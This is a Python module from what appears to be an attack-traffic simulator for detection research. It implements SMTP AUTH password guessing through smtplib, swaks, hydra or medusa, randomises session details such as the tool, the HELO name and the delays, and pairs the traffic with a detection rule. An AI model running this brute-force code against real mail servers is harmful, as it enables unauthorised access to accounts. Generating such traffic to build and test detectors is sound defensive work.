# SPDX-License-Identifier: GPL-3.0-or-later
"""Password guessing at mail servers: SMTP AUTH with hydra, medusa, swaks or smtplib.

Varied per session: the tool, LOGIN or PLAIN, with or without STARTTLS as the server wants it, tries per connection, the name
in HELO, delays."""
import contextlib
import smtplib
import ssl

from .. import clients
from ..behaviour import threat
from .crackers import guess_in_rounds, tool


def _smtplib(me):
    rng = me.rng
    tries, gap, style = rng.choice((1, 1, 2, 3)), rng.uniform(0.1, 1.5), clients.style(me)
    name = rng.choice(("localhost", "user", "[127.0.0.1]", "win-" + rng.randbytes(4).hex(), "mail.example"))

    def guess(service, users, passwords):
        pairs = [(user, password) for user in users for password in passwords]
        while pairs and not me.over():
            with me.talk(service), contextlib.suppress(OSError, smtplib.SMTPException, ssl.SSLError), \
                    smtplib.SMTP(me.address(service, False), service.port, local_hostname=name, timeout=8) as talk:
                me.use("smtplib")
                if service.facts.get("starttls"):
                    talk.starttls(context=style.context)
                for user, password in pairs[:tries]:
                    with contextlib.suppress(smtplib.SMTPAuthenticationError):
                        talk.login(user, password)
            pairs = pairs[tries:]
            me.sleep(rng.expovariate(1 / gap))
    return guess


def _swaks(me):
    kind = me.rng.choice(("LOGIN", "PLAIN"))

    def guess(service, users, passwords):
        for user in users:
            for password in passwords[:6]:  # a Perl program per try
                secure = ["--tls-optional"] if service.facts.get("starttls") else []
                with me.talk(service):
                    me.run(["swaks", "--server", me.address(service, False), "--port", service.port, "--auth", kind,
                            "--auth-user", user, "--auth-password", password, "--quit-after", "AUTH", "--silent", "3",
                            *secure], timeout=12)
                me.sleep(me.rng.uniform(0.2, 2))
    return guess


@threat("guess_smtp", family="guessing", needs=("smtp",), tools=("hydra|medusa|swaks",), origin="either")
def guess_smtp(me):
    users = [service.facts["user"] for service in me.services("smtp") if service.facts.get("user")]
    service = me.choose("smtp", **({"user": me.rng.choice(users)} if users else {}))  # rather one that asks for a login
    guess = me.rng.choice((_smtplib, _smtplib, _swaks))(me)
    if not service.facts.get("starttls"):  # hydra and medusa give up where the server wants TLS first
        guess = tool(me, guess, hydra="smtp", medusa=("smtp", "-m", "AUTH:LOGIN"), patator="smtp_login")
    guess_in_rounds(me, guess, service, me.rng.randrange(80, 300), service.facts.get("user", ""))


EVIDENCE = {
    "guess_smtp": ("with a dialogue", lambda flow: flow.protocol == 6 and min(flow.bytes) > 300, 12),
}
